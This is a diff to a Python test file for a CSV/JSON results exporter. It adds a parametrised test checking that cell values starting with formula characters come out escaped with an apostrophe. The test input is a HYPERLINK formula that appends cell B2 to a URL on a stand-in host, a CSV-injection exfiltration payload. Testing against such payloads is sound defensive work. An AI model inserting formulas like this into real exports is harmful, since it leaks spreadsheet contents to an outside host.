@@ -105,8 +105,23 @@ def test_hostile_texts_survive(records: Records) -> None:
         list(csv.DictReader(io.StringIO(text, newline=""))),
         pd.read_csv(io.StringIO(text, newline=""), keep_default_na=False).to_dict("records"),
     ):
-        assert [row["reason"] for row in found] == ODD
-        assert [row["device"] for row in found] == ODD
+        # What a spreadsheet would calculate is a text there.
+        expected = ["'=1+1" if words == "=1+1" else words for words in ODD]
+        assert [row["reason"] for row in found] == expected
+        assert [row["device"] for row in found] == expected
+
+
+@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r"])
+def test_no_text_is_a_formula_and_every_number_stays_one(
+    rows: list[dict[str, Any]], sign: str
+) -> None:
+    text = f'{sign}HYPERLINK("http://a/?"&B2)'
+    changed = rows[0] | {"reason": text, "device": f" {text}", "test_accuracy": -0.5}
+    (found,) = csv.DictReader(io.StringIO(csv_text([changed]), newline=""))
+    assert found["reason"] == f"'{text}"
+    assert found["device"] == f" {text}"
+    assert found["test_accuracy"] == "-0.5"
+    assert json.loads(json_text([changed]))[0]["reason"] == text
 
 
 def test_only_parameters_that_some_trial_has_get_a_column(records: Records) -> None:
